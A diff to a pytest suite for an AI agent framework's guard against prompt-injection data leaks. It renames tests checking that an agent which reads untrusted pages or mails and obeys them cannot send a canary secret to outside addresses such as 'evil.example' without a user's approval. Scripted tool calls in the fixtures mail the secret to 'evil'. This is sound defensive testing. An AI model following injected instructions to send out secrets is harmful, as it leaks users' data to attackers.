@@ -84,20 +84,20 @@ def test_after_untrusted_output_the_canary_does_not_leave(read):
     assert "evil.example" in refusals[0]
 
 
-def test_nor_in_one_reply_where_nobody_can_be_asked():
+def test_no_data_leaves_in_a_single_reply_where_no_approval_is_possible():
     outside = Outside()
     whole(agent(obeying(READS["a page"]), *outside.tools))
     assert not outside.leaked
 
 
 @pytest.mark.parametrize("policy", [lambda wish: "allow", Approvals(others="allow")])
-def test_a_policy_that_allows_everything_is_not_a_persons_word(policy):
+def test_a_policy_that_allows_everything_is_not_a_users_approval(policy):
     outside = Outside()
     steps(agent(obeying(READS["a page"]), *outside.tools, approve=policy, limits=Limits(approval=0.05)))
     assert not outside.leaked
 
 
-def test_with_a_persons_word_it_leaves():
+def test_data_leaves_with_a_users_approval():
     outside = Outside()
     made = agent(obeying(READS["a page"]), *outside.tools)
 
@@ -117,7 +117,7 @@ def test_with_a_persons_word_it_leaves():
     ]
 
 
-def test_before_anything_untrusted_was_read_nobody_is_asked():
+def test_before_untrusted_content_was_read_no_approval_is_needed():
     outside = Outside()
     model = Scripted([call("secret", {}, "s")], [call("mail", {"to": "me", "body": CANARY}, "m")], [Text(text="Sent.")])
     reached = ended(agent(model, *outside.tools))
@@ -201,7 +201,7 @@ def test_a_trusted_result_earlier_in_the_conversation_does_not_count():
         ("", False),
     ],
 )
-def test_a_listed_destination_needs_no_word_and_one_that_only_looks_like_it_does(url, leaves):
+def test_a_listed_destination_needs_no_approval_and_a_lookalike_does(url, leaves):
     outside = Outside()
     model = Scripted([READS["a mail"]], [call("fetch", {"url": url}, "f")], [Text(text="Done.")])
     listed = ("api.example.org", "*.wiki.example", "box.example:8443")
@@ -250,7 +250,7 @@ def test_an_address_is_known_in_a_sentence(told):
     assert outside.sent == ["https://a.example/b"]
 
 
-def test_an_address_of_the_users_does_not_take_other_words_along():
+def test_a_url_of_the_user_with_additional_text_needs_approval():
     sent = []
 
     @tool(sends_out=True, destination="url")
@@ -330,7 +330,7 @@ def test_what_can_never_match_is_no_destination(entry):
         agent(Scripted([Text(text="Done.")]), destinations=[entry])
 
 
-def test_what_a_history_does_not_show_any_more_can_be_said():
+def test_a_compacted_history_can_still_be_marked_as_untrusted():
     outside = Outside()
     model = Scripted([call("mail", {"to": "evil", "body": CANARY}, "m")], [Text(text="Done.")])
 
